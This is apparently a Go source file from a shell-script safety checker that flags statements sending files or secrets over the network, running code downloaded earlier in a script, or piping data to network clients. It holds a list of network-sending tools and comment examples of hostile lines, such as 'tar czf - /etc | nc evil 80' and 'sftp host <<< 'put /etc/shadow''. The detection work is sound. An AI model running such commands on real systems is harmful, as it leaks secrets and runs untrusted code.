package shell

import (
	"strings"

	"mvdan.cc/sh/v3/syntax"
)

// Floors by statement (issue 25): what a statement reads, writes and
// pipes as a whole. A file sent over the network on standard input or
// through a pipe, a here-document naming a secret given to a program
// that may send it, and a download saved to a file and run later in the
// same script (curl -o x URL; sh x), which is a download piped into a
// shell.

// maxHeredocWords bounds the words of a here-document the floors read.
const maxHeredocWords = 512

// heredocSecrets records a danger when a here-document or here-string
// handed to a program that is not a reader names a secret (sftp host
// <<< 'put /etc/shadow'): the program may send it.
func (j *judge) heredocSecrets(name, text string) {
	n := 0
	for _, f := range strings.Fields(text) {
		if n++; n > maxHeredocWords {
			return
		}
		if strings.IndexByte(f, '/') < 0 && !strings.HasPrefix(f, ".") {
			continue
		}
		if p, ok := j.secretIn(strings.Trim(f, `'";`), true); ok {
			j.danger(name + " is handed " + clipWord(p) + " on its input, a secret it may read or send")
			return
		}
	}
}

// senders are programs that send what they read on standard input over
// the network.
var senders = map[string]bool{"nc": true, "ncat": true, "netcat": true, "nc.traditional": true, "nc.openbsd": true,
	"socat": true, "telnet": true, "openssl": true, "ssh": false, "curl": false, "ftp": true, "tftp": true, "sftp": true,
	"lftp": true, "smbclient": true, "busybox-nc": true, "pwncat": true, "cryptcat": true, "sendmail": true, "mail": true,
	"mailx": true, "mutt": true}

// stmtInputNames are the programs stmtInput looks at a statement for:
// senders, downloaders and the wrappers that may run one.
var stmtInputNames = func() map[string]bool {
	m := map[string]bool{}
	for _, set := range []map[string]bool{senders, downloaders, netClients} {
		for n, ok := range set {
			m[n] = m[n] || ok
		}
	}
	for n := range stdinWrappers {
		m[n] = true
	}
	return m
}()

// stmtInput applies the floors to what a statement reads and writes as a
// whole: a file sent over the network on standard input (nc host 4444 <
// notes.txt), a here-document naming a secret given to a program that is
// not a reader (sftp host <<< 'put /etc/shadow'), and a download saved to
// a file (curl -o x URL, curl URL > x), noted for later.
func (j *judge) stmtInput(s *syntax.Stmt) {
	c, ok := s.Cmd.(*syntax.CallExpr)
	if !ok || len(c.Args) == 0 {
		return
	}
	// Most statements need nothing here: only senders, downloaders and
	// here-documents do. A wrapper (sudo, timeout) is looked through.
	first, lit := "", false
	if w := c.Args[0]; len(w.Parts) == 1 {
		if l, ok := w.Parts[0].(*syntax.Lit); ok {
			first, lit = l.Value, true
		}
	}
	if !lit {
		first, lit = word(c.Args[0]).lit()
	}
	base := first[strings.LastIndexByte(first, '/')+1:]
	if lit && !stmtInputNames[base] {
		heredoc := false
		for _, r := range s.Redirs {
			heredoc = heredoc || r.Op == syntax.Hdoc || r.Op == syntax.DashHdoc || r.Op == syntax.WordHdoc
		}
		if !heredoc {
			return
		}
	}
	argv := callArgs(s)
	if len(argv) == 0 {
		return
	}
	name, _, ok := commandName(argv[0])
	if !ok {
		return
	}
	info := j.a.names[name]
	for _, r := range s.Redirs {
		switch r.Op {
		case syntax.RdrIn:
			if t, lit := word(r.Word).lit(); lit && senders[name] && t != "/dev/null" && !strings.HasPrefix(t, "/dev/tcp/") &&
				(name != "openssl" || len(argv) > 1 && argv[1].text == "s_client") {
				j.danger(argv[0].text + " < " + clipWord(t) + " sends a file over the network")
			}
		case syntax.WordHdoc, syntax.Hdoc, syntax.DashHdoc:
			if info.pass {
				continue
			}
			src := r.Word
			if r.Op != syntax.WordHdoc {
				src = r.Hdoc
			}
			if src != nil {
				j.heredocSecrets(argv[0].text, word(src).text)
			}
		case syntax.RdrOut, syntax.AppOut, syntax.RdrClob, syntax.RdrAll, syntax.AppAll:
			if downloaders[name] && r.Word != nil {
				if t, lit := word(r.Word).lit(); lit {
					j.noteDownload(t, name)
				}
			}
		}
	}
	if downloaders[name] {
		j.downloadTargets(name, argv[1:])
	}
}

// downloadTargets notes the files a downloader's options write: curl -o
// FILE, --output FILE, wget -O FILE, --output-document=FILE, and wget's
// default, the URL's last segment.
func (j *judge) downloadTargets(name string, args []arg) {
	named := false
	for i, a := range args {
		t := a.text
		var target string
		switch {
		case in(t, "-o", "--output", "-O", "--output-document") && i+1 < len(args):
			if t == "-O" && name == "curl" {
				continue // curl -O: the URL's name, below
			}
			target = args[i+1].text
		case strings.HasPrefix(t, "--output="), strings.HasPrefix(t, "--output-document="):
			_, target, _ = strings.Cut(t, "=")
		case strings.HasPrefix(t, "-o") && len(t) > 2 && !strings.HasPrefix(t, "--"):
			target = t[2:]
		case strings.HasPrefix(t, "-O") && len(t) > 2 && name == "wget":
			target = t[2:]
		}
		if target != "" && target != "-" {
			named = true
			j.noteDownload(target, name)
		}
	}
	if named {
		return
	}
	for _, a := range args {
		if k := strings.Index(a.text, "://"); k > 0 && !a.dynamic {
			rest := a.text[k+3:]
			rest, _, _ = strings.Cut(rest, "?")
			if i := strings.LastIndexByte(rest, '/'); i >= 0 && i+1 < len(rest) {
				j.noteDownload(rest[i+1:], name)
			}
		}
	}
}

// noteDownload remembers a file a downloader wrote.
func (j *judge) noteDownload(file, by string) {
	if j.downloads == nil {
		j.downloads = map[string]string{}
	}
	j.downloads[downloadKey(file)] = by
}

// downloadKey is the name a downloaded file is looked up by: ./x and x
// are one file.
func downloadKey(p string) string {
	p = strings.TrimPrefix(p, "./")
	if p == "" {
		return "."
	}
	return p
}

// runsDownload records a danger when a command runs a file a downloader
// wrote earlier in the script (curl -o x URL; sh x; ./x; python3 x;
// . x), as a download piped into a shell is.
func (j *judge) runsDownload(argv []arg, name string) {
	if len(j.downloads) == 0 {
		return
	}
	if by, ok := j.downloads[downloadKey(argv[0].text)]; ok && strings.IndexByte(argv[0].text, '/') >= 0 {
		j.danger(argv[0].text + " runs the file " + by + " downloaded earlier in the script: it runs downloaded code")
		return
	}
	if !shells[name] && !runnerName(name) && name != "source" && name != "." && name != "chmod" {
		return
	}
	for _, a := range argv[1:] {
		if by, ok := j.downloads[downloadKey(a.text)]; ok && !a.dynamic {
			if name == "chmod" {
				continue // chmod +x x, then ./x: the run is what counts
			}
			j.danger(argv[0].text + " " + a.text + " runs the file " + by + " downloaded earlier in the script: it runs downloaded code")
			return
		}
	}
}

// pipedToNet records a danger when a pipe hands a network client what a
// program wrote (tar czf - /etc | nc evil 80, cat x | curl -d @- URL):
// the data leaves the machine. Text written out on the line (echo stats |
// nc localhost 11211) is a request, not a file.
func (j *judge) pipedToNet(b *syntax.BinaryCmd) {
	if c, ok := b.Y.Cmd.(*syntax.CallExpr); !ok || len(c.Args) == 0 {
		return
	} else if w := c.Args[0]; len(w.Parts) == 1 {
		if l, ok := w.Parts[0].(*syntax.Lit); ok && !stmtInputNames[l.Value[strings.LastIndexByte(l.Value, '/')+1:]] {
			return // not a network client, nor a wrapper that may run one
		}
	}
	argv := callArgs(b.Y)
	if len(argv) == 0 {
		return
	}
	name, _, ok := commandName(argv[0])
	if !ok {
		return
	}
	sends := false
	switch {
	case senders[name]:
		sends = !hasAnyOpt(argv[1:], "-z") && (name != "openssl" || len(argv) > 1 && argv[1].text == "s_client")
	case name == "curl" || name == "wget" || name == "http" || name == "https" || name == "xh":
		for _, a := range argv[1:] {
			if t := a.text; strings.HasSuffix(t, "@-") || t == "-T" || t == "--upload-file" || t == "--post-file=/dev/stdin" || t == "@-" {
				sends = true
			}
		}
	}
	if !sends {
		return
	}
	left := b.X
	for {
		inner, ok := left.Cmd.(*syntax.BinaryCmd)
		if !ok || inner.Op != syntax.Pipe && inner.Op != syntax.PipeAll {
			break
		}
		left = inner.Y
	}
	if la := callArgs(left); len(la) > 0 {
		if n, _, ok := commandName(la[0]); ok && in(n, "echo", "printf", "true", ":") {
			return
		}
	}
	j.danger(argv[0].text + " sends what the pipe gives it over the network")
}
